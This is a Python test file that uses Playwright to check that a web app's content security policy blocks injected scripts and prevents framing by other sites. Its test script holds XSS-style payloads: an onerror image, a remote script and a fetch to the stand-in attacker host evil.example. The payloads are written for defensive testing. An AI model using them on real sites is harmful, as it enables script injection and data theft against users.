"""The content security policy in a browser: injected scripts do not run, other sites cannot embed the app."""

import pytest

from tests.browser.conftest import serving, serving_files
from tests.browser.support import go_to

INJECT = """async () => {
  const refused = []
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective))
  document.body.insertAdjacentHTML("beforeend", "<img src=none onerror='hit = 1'>")
  for (const [name, value] of [["textContent", "hit = 1"], ["src", "https://evil.example/a.js"]])
    document.body.append(Object.assign(document.createElement("script"), { [name]: value }))
  setTimeout(() => { try { (0, eval)("hit = 1") } catch {} })  // Playwright's own calls may use eval
  try { await fetch("https://evil.example/?text=") } catch {}
  const kinds = () => [...new Set(refused)].sort()
  for (let i = 0; i < 100 && kinds().length < 4; i++) await new Promise((resolve) => setTimeout(resolve, 100))
  return { hit: window.hit ?? null, refused: kinds() }
}"""


def test_injected_scripts_do_not_run(server, chromium):
    page = chromium.new_page()
    page.goto(server)
    page.wait_for_selector(".vf-root[data-painted]")
    result = page.evaluate(INJECT)
    page.close()
    assert result["hit"] is None
    assert set(result["refused"]) == {"connect-src", "script-src", "script-src-attr", "script-src-elem"}


@pytest.mark.full
def test_a_chart_can_be_downloaded(open_app):
    page = open_app()
    go_to(page, "Decoding")
    page.get_by_role("button", name="Save").click()
    with page.expect_download() as file:
        page.get_by_role("button", name="PNG", exact=True).first.click()
    assert file.value.path().read_bytes()[1:4] == b"PNG"


@pytest.fixture
def embed(chromium, tmp_path):
    """Open another site that shows an address in a frame, and return the frame."""
    with serving_files(tmp_path) as site:
        page = chromium.new_page()

        def open_site(address):
            (tmp_path / "index.html").write_text(f'<iframe src="{address}" width=1200 height=800></iframe>')
            page.goto(site)
            return page.frame_locator("iframe")

        open_site.address = site
        yield open_site
        page.close()


def test_another_site_cannot_embed_the_app(embed, server):
    assert embed(server).locator("#root").count() == 0


@pytest.mark.full
def test_a_site_that_the_operator_allows_can_embed_the_app(embed, model_name, tmp_path):
    (tmp_path / "log").mkdir()
    with serving(model_name, tmp_path / "log", VISFORMER_FRAME_ANCESTORS=embed.address) as address:
        embed(address).locator(".vf-root[data-painted]").wait_for()
